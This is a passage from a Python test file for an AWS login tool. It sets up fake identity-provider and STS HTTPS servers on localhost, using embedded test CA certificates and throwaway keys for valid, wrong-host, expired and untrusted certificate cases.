#!/usr/bin/env python3
"""Tests for aws_login.py: standard library only, run with

    python3 test_aws_login.py

The IdP and STS are faked by small real HTTPS servers on 127.0.0.1 with a
test CA; the tool runs as a real process on a pseudo-terminal where a person
would type.  Sections mirror aws_login.py's.
"""

import base64
import binascii
import calendar
import datetime
import fcntl
import hashlib
import hmac
import http.server
import io
import json
import os
import random
import re
import select
import shutil
import signal
import socket
import socketserver
import ssl
import stat
import subprocess
import sys
import tempfile
import termios
import threading
import time
import traceback
import unittest
import uuid
import xml.etree.ElementTree as ET
import urllib.error as urllib_error
import urllib.request as urllib_request
from urllib.parse import parse_qsl, urlsplit

HERE = os.path.dirname(os.path.abspath(__file__))
SCRIPT = os.path.join(HERE, "aws_login.py")
sys.path.insert(0, HERE)

import aws_login  # noqa: E402

# ---------------------------------------------------------------------------
# 1. TLS test material
#
# Generated once with OpenSSL 3.0 (RSA 2048, SHA-256); `openssl ca` is used
# because OpenSSL 3.0's `x509 -req` cannot set arbitrary start/end dates:
#   openssl genrsa -out NAME.key 2048
#   openssl req -new -key NAME.key -subj "/CN=..." -out NAME.csr
#   CA:        openssl ca -selfsign -keyfile ca.key -extensions v3_ca
#                 -startdate 20200101000000Z -enddate 21200101000000Z
#   leaves:    openssl ca -cert ca.pem -keyfile ca.key -extensions v3_server
#                 -startdate 20200101000000Z -enddate 21200101000000Z
#              (expired: -enddate 20210101000000Z; untrusted: -selfsign with
#               its own key)
#   v3_ca:     basicConstraints=critical,CA:TRUE
#              keyUsage=critical,keyCertSign,cRLSign; subjectKeyIdentifier=hash
#   v3_server: basicConstraints=critical,CA:FALSE
#              keyUsage=critical,digitalSignature,keyEncipherment
#              extendedKeyUsage=serverAuth; subjectKeyIdentifier=hash
#              authorityKeyIdentifier=keyid:always
#              subjectAltName=DNS:localhost,IP:127.0.0.1
#              (wrong host: subjectAltName=DNS:wrong.example.invalid)
# SERVER_CERT_PEM verifies under ssl.VERIFY_X509_STRICT (Python 3.13's
# default) for both "127.0.0.1" and "localhost"; the CA key was discarded.
# UNTRUSTED_CERT_PEM also works as its own trust anchor (cafile=it).
# ---------------------------------------------------------------------------

CA_CERT_PEM = """\
-----BEGIN CERTIFICATE-----
MIIC+DCCAeCgAwIBAgICEAAwDQYJKoZIhvcNAQELBQAwHDEaMBgGA1UEAwwRYXdz
X2xvZ2luIHRlc3QgQ0EwIBcNMjAwMTAxMDAwMDAwWhgPMjEyMDAxMDEwMDAwMDBa
MBwxGjAYBgNVBAMMEWF3c19sb2dpbiB0ZXN0IENBMIIBIjANBgkqhkiG9w0BAQEF
AAOCAQ8AMIIBCgKCAQEAoEe553rn53npBrFPq9XTZfPbcMevGqfjKToPJzKQKdmi
4xLWA/FsXn/RmI5XpYMLUColB9xX8e10kFXt7mLD6rnLuG+4TQEJYiWXQAKoif1g
GzYi0COcotsAe535hlQTuLP/SQJKougdWdBfFNyaYWLX/+iyhq3UegzBhkEE4M9X
R2uYlsOv0p5YCejKqGvkTjtZuSYXJP11ZOX2QZ2+RGkbNScCIgiwmW4uiZbyIfRj
Te1GkgMD0TxJ3a+snET+Yc/Xu0zw69ay7Y4lXOMmSNweQGu6MjtNvy4EpwGtTyyP
khh9LM3L3CJuMxcPVRaiRDvdb18jFga8Ei5snO8eAQIDAQABo0IwQDAPBgNVHRMB
Af8EBTADAQH/MA4GA1UdDwEB/wQEAwIBBjAdBgNVHQ4EFgQUhn/MOsXTBK77iKUm
hpUGNh+bJdkwDQYJKoZIhvcNAQELBQADggEBAC8Wzx5VM9cDIgNi4Yy0Su4yvQ17
+LudE8VHypnj8Dt6vgdAS1ZkQH3acKnGs6GxGFNk+M0f8t6wBm6f9NOEg7TB4QYt
jvkxfon24nnECxS5qWuHR+RTlYU8+DTO2CjKvK0f367CS873NaWQSNybW+vFwOcE
MuXcisJE2/pcbCypEgmBp+xQ3NkWHZT8eDBjx4P49jbl2l20g7cDiNe6CUFCgnoJ
aZylHVZgU5xp8lxAY6fhx/PIoAKQjBl1+nksRWIZBV2pFboQ94aXViHqMGncEAWE
UmeuYc+OIGjw2Srr5LO33tIMVdAsf9WhqBB5rFxmhRDpta6TGtVAyKYwQUo=
-----END CERTIFICATE-----
"""

SERVER_CERT_PEM = """\
-----BEGIN CERTIFICATE-----
MIIDQTCCAimgAwIBAgICEAEwDQYJKoZIhvcNAQELBQAwHDEaMBgGA1UEAwwRYXdz
X2xvZ2luIHRlc3QgQ0EwIBcNMjAwMTAxMDAwMDAwWhgPMjEyMDAxMDEwMDAwMDBa
MBQxEjAQBgNVBAMMCWxvY2FsaG9zdDCCASIwDQYJKoZIhvcNAQEBBQADggEPADCC
AQoCggEBAJyzG12CtFgE93eo1SaR5pqcb1rMyNlg5VlIseNWp1zapbYPk3stw1r/
Pgi9hKgVWhzVNdZ/WcwN7ohoVO+ODOb26M4fU86tn9XvgyYrPBKE+6m8IvDDioEJ
S3i9kICa+Zq+W0G1YC1oZHyTDsu2h2gYIUC2CxtRweLkzKdvMUqjq+WwWV5p/Cht
fnZNgILwYCg+1nFAJNpEC5w5uUfw8+ay+NCS08DayGMmDs/Bg6NYPSvO3WmLJ2eB
G+31anRhJDEXcJOZfJpBasHPXZ6t91R7tvi0SmxjECuIbKGG1MPI9FBC+NylwFf2
huOVMlAwRD8LhqFmcAlSj3X88izNjt0CAwEAAaOBkjCBjzAMBgNVHRMBAf8EAjAA
MA4GA1UdDwEB/wQEAwIFoDATBgNVHSUEDDAKBggrBgEFBQcDATAdBgNVHQ4EFgQU
qfh6pzHBxcGZTj7UHU8y2Vtje+MwHwYDVR0jBBgwFoAUhn/MOsXTBK77iKUmhpUG
Nh+bJdkwGgYDVR0RBBMwEYIJbG9jYWxob3N0hwR/AAABMA0GCSqGSIb3DQEBCwUA
A4IBAQAOMEv5g8RgvMTv+vENP4is0ThRNZPdPkHwgvHOaC1mfrVtfkrGR/qW02jt
U4MGetHlNWhl+Rkmmf2PINeR4TgDjOdIG7gQuyGeKpr9NlimYAniYSFaUPlaH1RS
39bObZIBoT4DY41ry5o26onwllLEV/Lm6OQ50Y9lAFWdonkDW0fwweNujwwTnDtm
0sXmZ5FtQTCDmtTS8EJEGOO7Msy90e8WM2nlKE7iQMvY2YkEpw2c0PTtozI0lNUP
4jwzqtPjn5dRt/znq1O4oho9KIrreCZBo9KZKUsLR/4ghNc1V7oUi6sHMppwDOBD
3vya7xgi7BYyl4WyRDw4eiBW3cSm
-----END CERTIFICATE-----
"""

SERVER_KEY_PEM = """\
-----BEGIN PRIVATE KEY-----
MIIEvgIBADANBgkqhkiG9w0BAQEFAASCBKgwggSkAgEAAoIBAQCcsxtdgrRYBPd3
qNUmkeaanG9azMjZYOVZSLHjVqdc2qW2D5N7LcNa/z4IvYSoFVoc1TXWf1nMDe6I
aFTvjgzm9ujOH1POrZ/V74MmKzwShPupvCLww4qBCUt4vZCAmvmavltBtWAtaGR8
kw7LtodoGCFAtgsbUcHi5MynbzFKo6vlsFleafwobX52TYCC8GAoPtZxQCTaRAuc
OblH8PPmsvjQktPA2shjJg7PwYOjWD0rzt1piydngRvt9Wp0YSQxF3CTmXyaQWrB
z12erfdUe7b4tEpsYxAriGyhhtTDyPRQQvjcpcBX9objlTJQMEQ/C4ahZnAJUo91
/PIszY7dAgMBAAECggEACTqzXeqY3KZOPQoAo+jsACc+l8Z//e2rFHsnnxA3g0yN
fg+kzBiB7RYjfThMW+oGCLS2GxAdJducNQSQHBvtvpzEUX+e3Al15I/a1aCuRRj4
CaM/G5cozTjS7SWdITX/hZG4pkIcjBAd+wheUrlJeGQTcVBHjzBdjxOSyjnOWWr6
zCfXC/6LxA53vUvNXa21cpQYlfJGJnqD6I/apLbHjKUiSF3pIKGMmhIEWZs7njIV
yOji2DAGjb4MFWDz5cK9tOAn4MN7yHCokiU9WZ/qP9Ml5nxtb0nZ+La2sqBD7YAE
yUEh4hN6p1GsqLtjlrhDhVO5aXpCACmzMNeAe2dgsQKBgQDVxmk8Ned9a8lO4LAv
kM3F/KBBfUS6xEqSR2l+b0H+cDxDWIYp/EhQ52NMtFZAtGj7Z3KsfKToU7SL0fCd
w2x1PzXxTrFc7vIEoLiBx2OOkKqleykct0dzMZ7MYyC0gK1mTEUnUS1yM1EexB9d
ii6u+WYjrc76M2yEgR6MV8/N3wKBgQC7pqnaUUIL9g9f4cgdpcthpUhrbuJ4oGi8
PouS4iOqsMf1Ca2Xj1ZuOUQOiL560FBaPWsQOWBcaB6uH+3mglseY9RyvWNx6Z9y
rU4STLpeK7c4pOqvt0cJTsIjNKbzk8IAiMWipFD+oypQ4i0fLb4NVzR1cRfkkGnu
qvDhQxgCwwKBgQCQQ5STCIGPF2VD8MeVYfAr019GssXmED+O1dhwdZ6gmZdhj2UD
Ani++Ff/1Jd8lQNf3aD6nCchjhOCZAwwO0h/G0hI72UsJSh4TQoWsrsR47j1cdb9
xQXXzD2xCphwl4HtTj1A2jyEG/N7grj0BCOa+z2diFbsbDWoegZmiX/4GwKBgQCy
Z83sxnyoqpQLcLm1lj864s1rdszSKo/pCP3h9CY8zj4NddoY0io2OTO/LbsLQKpk
YSg9EI/Qyx0AJ1MjaKQAzKDbRbwaPSde++3R8CjwB1f2/rQxw2pCKyLgHdrskXpM
z7w22Uo4DiDZLXAAyJh8ToCNd6xjnflY9CR3xjY5yQKBgDMHucRrIbLJcrd2fmv/
6pmhGT2W1w9Vy/Z9IrjZgE+FKIFqMoWsysFuBWzsk3cWMhpt8ewD0U5wXzDOXzTM
I7poc7ksiYZ8iENpe48xvxdOgpDGdhtyXjSe/dG9JFaXaSpqmLzb/NOtg3v/rc6b
03Vkfk/vh5msitlB6dGGbOqK
-----END PRIVATE KEY-----
"""

WRONG_HOST_CERT_PEM = """\
-----BEGIN CERTIFICATE-----
MIIDUzCCAjugAwIBAgICEAIwDQYJKoZIhvcNAQELBQAwHDEaMBgGA1UEAwwRYXdz
X2xvZ2luIHRlc3QgQ0EwIBcNMjAwMTAxMDAwMDAwWhgPMjEyMDAxMDEwMDAwMDBa
MCAxHjAcBgNVBAMMFXdyb25nLmV4YW1wbGUuaW52YWxpZDCCASIwDQYJKoZIhvcN
AQEBBQADggEPADCCAQoCggEBALpANigtDHz2/jRkuCix5IzFjfxImtOsJ9Rcn0Gm
MUvD8jH/c1Fi43U3Cf+e5Iup+BXcxBQ0F1eEcJM8sPTQSPBie2ljzFEbdTjMSCy/
WZU5ojvzcDDgwjflaFSC6+wmmF26ytoUgGN4ShGBEeDQ04K3rE9WBqmw2x7Jaawk
nZlo+VF4TOhO5ZfYg1HhcOQb9wiX2rbLrtJ/b0KA1vYpsJbSUsA6gW+85Ga5jvJN
ZxcU7c5eKFm+TmPoXvuqXpTpRd2qnKy0MFbvtM3W/Dbdx9MY9/BBvOXhn303xt2I
fmVr+Q6GSe98YUtpsXfhyk/bSEIhKi+weigZjMRYYQJRTzECAwEAAaOBmDCBlTAM
BgNVHRMBAf8EAjAAMA4GA1UdDwEB/wQEAwIFoDATBgNVHSUEDDAKBggrBgEFBQcD
ATAdBgNVHQ4EFgQUCJd4bJnQ5hiLGctTfBW0ETeo1cswHwYDVR0jBBgwFoAUhn/M
OsXTBK77iKUmhpUGNh+bJdkwIAYDVR0RBBkwF4IVd3JvbmcuZXhhbXBsZS5pbnZh
bGlkMA0GCSqGSIb3DQEBCwUAA4IBAQCFYIUJIF1RBjdtN92/vDdU1i5imprD5KcS
MemIfrorSo+sMWOMHiPDicSX3JYpM4XMnYA1Q4XM0n8I5zfCZIa5GxO2mYIWrSQ5
OWUBfBBa8VVsrbSB2lCoyKgJgb7NMpqFX1kCxjqgswxpYj2J13btAn+gHzJO2PeN
DS0MEMDOxsr51QINzf1mmapByRsvRmA+DQQlZ0JAZiGydV1hVfhfEq1G9plRaUnq
Mp9dAPotokTQvBXOcepe5b6v0EaqipxkxtNzkxEXEI9Bw3i77/rdmDQfMZ3+qmmi
wp2VfVl3bRYPm/EhyYneVesIjd8Iby7CQo156bCh2ENrzMdwWKMK
-----END CERTIFICATE-----
"""

WRONG_HOST_KEY_PEM = """\
-----BEGIN PRIVATE KEY-----
MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC6QDYoLQx89v40
ZLgoseSMxY38SJrTrCfUXJ9BpjFLw/Ix/3NRYuN1Nwn/nuSLqfgV3MQUNBdXhHCT
PLD00EjwYntpY8xRG3U4zEgsv1mVOaI783Aw4MI35WhUguvsJphdusraFIBjeEoR
gRHg0NOCt6xPVgapsNseyWmsJJ2ZaPlReEzoTuWX2INR4XDkG/cIl9q2y67Sf29C
gNb2KbCW0lLAOoFvvORmuY7yTWcXFO3OXihZvk5j6F77ql6U6UXdqpystDBW77TN
1vw23cfTGPfwQbzl4Z99N8bdiH5la/kOhknvfGFLabF34cpP20hCISovsHooGYzE
WGECUU8xAgMBAAECggEACAFh8oi6wsixAdqBNrD5J5Q6nc99f1lxqtIov2vslLRn
sOUPqIqTrg8ydrjDKD4Jg9/ZBujh4Fw417NIaqiYAf3edRfmvJog1NMLy4fIyqSC
blY9cI39YX6sS2zT+PLQ7yWfIEMfIGdkTTiBgFEpgWXyQF5S65dGi9FRB/Olv7K6
Ky6eaVRbDqRlKgxjgkxE1spUqNgclhf/3tH5oWyL26gpimi1hWuCeZFN31b297/G
/e5/E1LPsRz08D4+2ElQwHnYZ0gmjzYMgax0CLPNS2nuWOYBNnuDjtmXI2J4oBhb
MZnX1OcfvnQqVzEYBgtaifgxWIxT60ltWyFi9sqjOwKBgQD3IQPfuN5f1UngCIEX
zW5VcyWqQQP48dwO0kLUdfQgC/fQMPbsjkKqgQx2S2HU18DERVfTsLEOvGg2NJ3M
FAHvBL6E1Ze4FSPxHLLNVgr/ZnIJ8LksfEbnPZ+xf0pYCdAg0OBaTt2vkwidRe/p
fnNTc7KIBubBHRXN7/GWGbUTdwKBgQDA78IoI6xujKbGZhJLhXswfL0PkqfDawpr
dd0SjzTgJNkTBnCHMQyZGJkgViSEGu1dNXYqw0o+9h3U2+FZz0XseRk8MJiLZlsy
5Ada8zIwZhs7f3zij2YiAkE2WcxCD6ckX/q0u6R/SKjWmboKQ9EpGL3sxKP7ur7D
ej6iGwDMlwKBgQCb2itqRVmg0I91hYd8bmc95o+DbttFfaqNglb5TKY4K7QOjUK8
bv9mLlqgo+u/4o1EeoLoE0+mfnWuccJueNO7XJ+WgGndgx+WqMWur6vh5EbZNAJk
JsBEh12WADPvj8i9WV2UNpaiarUNEpU6CTBMGfQmy0tt0Jz2snMGeZH0AwKBgHQu
rQOQ3+A+cJuekbvKqLE9HHiJPt8t0Tt+4V6wwA2OAu4y/YZbohN7PZK8bQbkVDXB
4OPFcCtT+AjbU+vKJnhNQEX/mYywWZDewhMhygJdKl782Y5w/fbS1sRM9PR/Co6c
AZPePyOq9IkuT1qpFgYicRRoIbuP7Bo4vgjOLAAHAoGAcDAN4/iW+EUNNq+h+RP9
7UWVbQbyZr/hGOvMKzaMU7YFAmM3tmmdn47zUGRwPvaZv8xx1brv1/ufz1SYNPGI
g0RjykNBh49ggU+ciHDevJOq1l3t4EsOmuqhSgmfBKZz4j2wYfeiAoY7S8umD8wE
/7CK1eTKV9+Lxbt0et6VKx0=
-----END PRIVATE KEY-----
"""

EXPIRED_CERT_PEM = """\
-----BEGIN CERTIFICATE-----
MIIDPzCCAiegAwIBAgICEAMwDQYJKoZIhvcNAQELBQAwHDEaMBgGA1UEAwwRYXdz
X2xvZ2luIHRlc3QgQ0EwHhcNMjAwMTAxMDAwMDAwWhcNMjEwMTAxMDAwMDAwWjAU
MRIwEAYDVQQDDAlsb2NhbGhvc3QwggEiMA0GCSqGSIb3DQEBAQUAA4IBDwAwggEK
AoIBAQC0o/B1OXwGQew4KqMryG3kZsoUPHmCfmngo1oB3rTfAEs/2VfDlfJDLKRa
0RgSihoE5Fs+cV+vdBAhtE6iXnFnfK18pwMZRMrg1gRx0DBKifxDHACRAtZRTHoq
VACu0euPv4/lPi47bKyOPspSPF2gqoK9iFuxFBzRC/He6BVFIUh5uruzZT0btiO2
EUTt9PD2B+v8otMTNR0EiuOi7bI0Mm9mPTxKvY/CWgrgzTIBoMkbuu+gFN8bVhNN
ylsG9+QvAmwjHfonx0HWisdz4yKwpEFi/XaHLYDiPE+MSCBOwsvoKLu9fiTDhVBC
TKLMkogXudUvBGkjH7ssyDd8Q32TAgMBAAGjgZIwgY8wDAYDVR0TAQH/BAIwADAO
BgNVHQ8BAf8EBAMCBaAwEwYDVR0lBAwwCgYIKwYBBQUHAwEwHQYDVR0OBBYEFD2E
i9UovMW6tbCdZB+/+qHAG4nXMB8GA1UdIwQYMBaAFIZ/zDrF0wSu+4ilJoaVBjYf
myXZMBoGA1UdEQQTMBGCCWxvY2FsaG9zdIcEfwAAATANBgkqhkiG9w0BAQsFAAOC
AQEAIG7SC/PevGxXQF/yRnO+qnF+iB8jSUIO4XRxLqZtH/XGVLHqGvJRQCNgO5Rx
bA82JnYCpAob5WNdEdNfYH3QqdXhL2Qq5XYzuaHrR4KJohNNa93rp36sBjgrs8ST
3Dk1ew1Ym/cgubonaef3xmK9yXyXfvmQ6K6sKIMPaPxQbnFApZAf/NRJAwj8qqiU
575Nj2dMcF95azQZqXSeOGlJqZGHJie30PpchmE3pcNNu7hyH1VJ1cqZ8N4C0Kkk
XiPBPrwx4s68dNibAdyPQ8lhUPS3DFBiT3XdturXHJp0prIDYq/Kw6SP4oZrGVuR
WUM29+X1lFiPbA7JQ4/JDoe86Q==
-----END CERTIFICATE-----
"""

EXPIRED_KEY_PEM = """\
-----BEGIN PRIVATE KEY-----
MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC0o/B1OXwGQew4
KqMryG3kZsoUPHmCfmngo1oB3rTfAEs/2VfDlfJDLKRa0RgSihoE5Fs+cV+vdBAh
tE6iXnFnfK18pwMZRMrg1gRx0DBKifxDHACRAtZRTHoqVACu0euPv4/lPi47bKyO
PspSPF2gqoK9iFuxFBzRC/He6BVFIUh5uruzZT0btiO2EUTt9PD2B+v8otMTNR0E
iuOi7bI0Mm9mPTxKvY/CWgrgzTIBoMkbuu+gFN8bVhNNylsG9+QvAmwjHfonx0HW
isdz4yKwpEFi/XaHLYDiPE+MSCBOwsvoKLu9fiTDhVBCTKLMkogXudUvBGkjH7ss
yDd8Q32TAgMBAAECggEAARQ/ofujbYgkSJucmOzcFzKz/1XzJd/qcwCWz48Mho6C
ZJHAT/dL2LHiE3bPTYEMsb3Je8CCoVIwrHrew2KMC+G3SZjX0GVUTu6IXUOwnilf
2+jFahhZvmeWDT2uOV0gqp2q1uQ9s3YtO7ZNUBtzNbv/BvHTFmY329nV6o55Xg3X
xsLVJiBANcsMgXTj39H3UsGudaoQEh1US2/2vNzQknce6S2CP/Vw/UULOgunpl3m
LpKb1g/ZjknH9Nl8V/UlMtgRX1IsFSDtzgCdyxKY1dDhufrfomtyTuJOKnUSRi1X
b78HmxMj3lscrtrJho2ZutLbI9VMf/NYFPFnC9aQCQKBgQDXPLSbhIBUw/WSd63a
PSF2uTKeu64hiKwfo9S84dwCJmg+YPgjh2RzDjpKXqEAmK8oF7U9tO+tmNJTLgp3
ST5bbK7gNgevxtbN20PukZ4HdfzZHMtDp3vROVsHpuYeteEdbN2GGEqFqhnXc5qN
rIq/qnbsAKsFJyxPrrCMh+PpGQKBgQDW2eMzgArw0I2x71XLqBpU0esQ3oeqjy2A
9pyI87YvYVy+uH1hCiuzSdgnHJG+9s6dHFpvHBDYfWPgaAr2FlW2ierIKDxHkP46
e9GbS0q5h1hCHJu6XYQXabR019Km3sXRFKeBbclmijq7MxaIpFyatCck44SoJzXE
43Ta28f1iwKBgC0aHmp8QHwCuCHiDD8wEiQTuMTEZT/HqPHUXc7asUSOEcgIf9bK
F0V41MQiwjAizoljNmpg0NyaqnAdtLm8UmHMC3UWPVQbIYXvjXOfdfLwSXShcQKT
RQHZt/aJha0nxa1p0522117c/x9DrT5EyqpRKSxZE3038TQdUgeQrjR5AoGBAJ8t
wRoH1JNEQKbC5nLDsfaDrD/MTwE7oP/6NlF1FtaVsOwQrbu2mFf17vJTRVwRaVSX
jBzj00tB4zyAeRaHx6s9FTiELtzq/KAB2nLO3qcEMoyQu4PhAxuBklQ7DnPZewAD
6HKJD30sDoVhPWGxPHbV4GaBNmiK3FhqGMqJqOUvAoGAfDvNBmkw4T0mNjQ+2/u/
oOJnEnbXutudA2qfCH0V8YjRGLMH8oo522y61pdeWzK0sIXjkKyDxBaE/7epy4PF
8Upq+x8SH+/Px3Bg13KUVuR17WEejIYM23Tk8hFyXwT1gqeNIkoY6sCyA3/pg9S1
3PGqeG6E+Bwik2JTy57adOQ=
-----END PRIVATE KEY-----
"""

UNTRUSTED_CERT_PEM = """\
-----BEGIN CERTIFICATE-----
MIIDTTCCAjWgAwIBAgICEAQwDQYJKoZIhvcNAQELBQAwHjEcMBoGA1UEAwwTdW50
cnVzdGVkIGxvY2FsaG9zdDAgFw0yMDAxMDEwMDAwMDBaGA8yMTIwMDEwMTAwMDAw
MFowHjEcMBoGA1UEAwwTdW50cnVzdGVkIGxvY2FsaG9zdDCCASIwDQYJKoZIhvcN
AQEBBQADggEPADCCAQoCggEBAMUUmBv+vBw+5lm+sFRkXx4unG4DQuRO3MDYEAL1
LvF8jDzk1ZFMWVKFrnFNYWPtT2d3tKK1XlRrDqXsuSq3EIv528SkfSbs7Np72aoh
aS34Mfc0UJeE2/zxVT53lUM11P6Zdg5/ukAgRC9WtuPRsPz3OpeNGzaO+nmpllSk
Effg693BedbHBMOZq3DY8j5rwG1sY54NOJuUqHjiJtkLDATN0oXqPdkDvr8CI0M3
VTPDl1od25CJhygDYxcDrmMZ+jomczZUPc0G1NW0nmpwGURcCx3wDIeJacU/fgJv
egGNTK81CKVlQcJGg32CiZXnTkBGQb3wPCrG6RaGlHfmlMMCAwEAAaOBkjCBjzAM
BgNVHRMBAf8EAjAAMA4GA1UdDwEB/wQEAwIFoDATBgNVHSUEDDAKBggrBgEFBQcD
ATAdBgNVHQ4EFgQUIoZE6aHzsQFDs4i2TQVvSnN0+TswHwYDVR0jBBgwFoAUIoZE
6aHzsQFDs4i2TQVvSnN0+TswGgYDVR0RBBMwEYIJbG9jYWxob3N0hwR/AAABMA0G
CSqGSIb3DQEBCwUAA4IBAQBtlpkCar0ZbFu/H/q+jO4MAUEuRM8Y81RUPnrkNx6W
5qL0D3I8Kt2ksMgmF3X5YRVt/Wb35uZYfcWgqIA9PhCoAvLuBgBbwGcAhkb0XriR
TJHi9r2QhOyf6mlFuLk3PyWfxOkAK3rY1oQ/+QTzspCozWMW5z3jk4DGEh4o3sYD
MT5NVh60c6V1vjjIlWIfa7qeirQCBw7z90GtlrU7peGz2qeeXs3pRbgmKpQm5A5C
3V4xAQUomYRptkYvXqi16Dou4gZLVbGTEMSt8eLA2bGX48LTEpJJW8vLhnsof+kN
baXmps2ru4D0uSPTgxoMWlPFqd5RPXFARcxu3X7TjgMd
-----END CERTIFICATE-----
"""

UNTRUSTED_KEY_PEM = """\
-----BEGIN PRIVATE KEY-----
MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQDFFJgb/rwcPuZZ
vrBUZF8eLpxuA0LkTtzA2BAC9S7xfIw85NWRTFlSha5xTWFj7U9nd7SitV5Uaw6l
7LkqtxCL+dvEpH0m7Ozae9mqIWkt+DH3NFCXhNv88VU+d5VDNdT+mXYOf7pAIEQv
Vrbj0bD89zqXjRs2jvp5qZZUpBH34OvdwXnWxwTDmatw2PI+a8BtbGOeDTiblKh4
4ibZCwwEzdKF6j3ZA76/AiNDN1Uzw5daHduQiYcoA2MXA65jGfo6JnM2VD3NBtTV
tJ5qcBlEXAsd8AyHiWnFP34Cb3oBjUyvNQilZUHCRoN9gomV505ARkG98DwqxukW
hpR35pTDAgMBAAECggEADyR/cXs3oeX1VgTwUHOr2UpUi6FlhNxIWurfBBMpqbVb
oxwkCrd2j4AlAKCk8IQd20HX176ewla9d+NB8PXC6DZo++l1kkWXB0yH02ogxj7x
O+DBpnq3Wm6CkbundNQQiwVojEGlImM4SfjcMZH9itpGHrnhUuZWeX2dxuAaX1S+
0+SCXA4EEmzY/uNs80QisXq87cCEiZ4C0xxV/GhcHucvtewUukvDd2PDtGApFS70
Ae+w+yGPL/RKREe0N5Ck2MVcK5qQPqvsdUn5YsBvs9Pb1CcGVZolReF0Pcqt/37o
47CaxskMqCKd9YnZ7fopgMuwTHuW4ZjducYUPlq8RQKBgQDl+KCL2sehLSF1Byvg
ZuYFAfDfRSjHbCADtc+DKUookSHR/sT0KP7yJV0LB9X/bZsc4JQD6RAT0jNTGKWb
q5ECmQ/voWDPJMLEYR09NvF9HCP3xG3tpo7gkv0Pb2gCFtF3ltkEZ6GGEP2w3NhG
rNOG4XvAAIDTqUBwmHMjfI431QKBgQDbYvaraEqFzjF5WxbZOQ1/9S77xMaIt4yd
/oVaUDwYcCx98Tteqjk58nlxzaAmGE/reFvp3RUG+Jm6zyo3qcpGSBVshzZlHO7T
dpPWZiorLejvyYOe/JxWaCMo4w3IfOaRhmaeQ4Srl7LRPz3fyHWYF5TKYViQICFp
YtyPSQc+NwKBgQChYHAg0/zEYKwauFaU2QBOwUbrFlgAYSKyF9IvozjT8Mw/1T0W
bPJCr+9zvyLvZFW11O5pNBJBJn83r5L/A0z1+rzRFnidw5kdP1zKSRT7C1U+F8xg
OUIH233TaAUfei2xctyFF8ekEaZEhyUJq1ugSfiSCohcf2el24TogQ43pQKBgGZF
KQZYtLzRlUCkVO9oaEGpM4DMh1x+bD/Owa2LT6h4ylTfmrSTl9/KiBCkMa7wkHkN
f5Nyq3W3eDqcjmqqbQ/8VHhmQ9Y4+aB8W4iL0caVPUxi3UfFLMAfBZzu06MNjpJy
W+4VPYicTBC9cYObuC3xeDwryxRM1iaBnp3xBj5bAoGAFxrGZJDOliKHgIuExi0Q
ZAc06D/rXZGh4eC63SF7QUAxDfbYvm8Kf8ka31AujFi33tv/5+ZR9FUkS3t7Pavg
yJEKTAh16hrGktGdKcgLXj/LgM0BqeSmBD6nGd+gWbPpcClhCyz+1bcNB59otGtB
xMI8vWK0IYMhM7jXzCIS3XA=
-----END PRIVATE KEY-----
"""

# name -> (cert, key) for write_pem_files()
_PEM_FILES = {
    'server': (SERVER_CERT_PEM, SERVER_KEY_PEM),
    'wrong_host': (WRONG_HOST_CERT_PEM, WRONG_HOST_KEY_PEM),
    'expired': (EXPIRED_CERT_PEM, EXPIRED_KEY_PEM),
    'untrusted': (UNTRUSTED_CERT_PEM, UNTRUSTED_KEY_PEM),
}


def write_pem_files(directory):
    """Write the TLS material into `directory`; return a dict of paths.

    Keys: 'ca' (ca.pem) and, for NAME in server, wrong_host, expired,
    untrusted: 'NAME_cert' (NAME.pem) and 'NAME_key' (NAME.key).
    """
    paths = {'ca': os.path.join(directory, 'ca.pem')}
    with open(paths['ca'], 'w') as f:
        f.write(CA_CERT_PEM)
    for name, (cert, key) in sorted(_PEM_FILES.items()):
        for kind, text, ext in (('cert', cert, '.pem'), ('key', key, '.key')):
            path = os.path.join(directory, name + ext)
            with open(path, 'w') as f:
                f.write(text)
            paths[name + '_' + kind] = path
    return paths


def server_context(cert_pem=SERVER_CERT_PEM, key_pem=SERVER_KEY_PEM):
    """An ssl.SSLContext(PROTOCOL_TLS_SERVER) loaded from PEM strings."""
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    # load_cert_chain() only reads files, so go through a private temp dir.
    tmp = tempfile.mkdtemp(prefix='fake-tls-')
    try:
        cert_path = os.path.join(tmp, 'cert.pem')
        key_path = os.path.join(tmp, 'key.pem')
        with open(cert_path, 'w') as f:
            f.write(cert_pem)
        with open(key_path, 'w') as f:
            f.write(key_pem)
        ctx.load_cert_chain(cert_path, key_path)
    finally:
        for name in os.listdir(tmp):
            os.remove(os.path.join(tmp, name))
        os.rmdir(tmp)
    return ctx


def client_context():
    """A default client context (hostname check on) trusting only the test CA."""
    return ssl.create_default_context(cadata=CA_CERT_PEM)


# ---------------------------------------------------------------------------
# Shared server plumbing
# ---------------------------------------------------------------------------

class _ThreadingServer(socketserver.ThreadingMixIn, http.server.HTTPServer):
    # http.server.ThreadingHTTPServer is 3.7+, hence the mix-in.
    daemon_threads = True
    block_on_close = False      # 3.7+: never join handler threads on close
    allow_reuse_address = True

    def __init__(self, fake, ssl_context):
        self.fake = fake
        self.ssl_context = ssl_context
        http.server.HTTPServer.__init__(self, ('127.0.0.1', 0), _FakeHandler)

    def server_bind(self):
        # HTTPServer.server_bind() calls socket.getfqdn(), which can stall on
        # a machine with slow reverse DNS.
        socketserver.TCPServer.server_bind(self)
        self.server_name, self.server_port = self.server_address[:2]

    def finish_request(self, request, client_address):
        # Headers and body leave in separate writes: with Nagle's algorithm and
        # the client's delayed ACK, every answer would wait 40 ms, which no
        # real IdP or STS does.
        request.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        # The TLS handshake runs here, in the connection's own thread, so a
        # client that never completes it cannot block the accept loop.
        if self.ssl_context is not None:
            request.settimeout(10)
            try:
                request = self.ssl_context.wrap_socket(request, server_side=True)
            except (ssl.SSLError, OSError) as e:
                # Expected when a test's client rejects our certificate.
                self.fake._note('tls_errors', e)
                return
        try:
            self.RequestHandlerClass(request, client_address, self)
        finally:
            if self.ssl_context is not None:
                try:
                    # Send a TLS close_notify so the client sees a clean EOF:
                    # without it, Pythons before 3.10 on OpenSSL 3 report a
                    # hang-up or truncated body as SSLError "unexpected eof"
                    # instead of RemoteDisconnected / IncompleteRead.
                    request.settimeout(1)
                    request = request.unwrap()
                except (ssl.SSLError, OSError, ValueError):
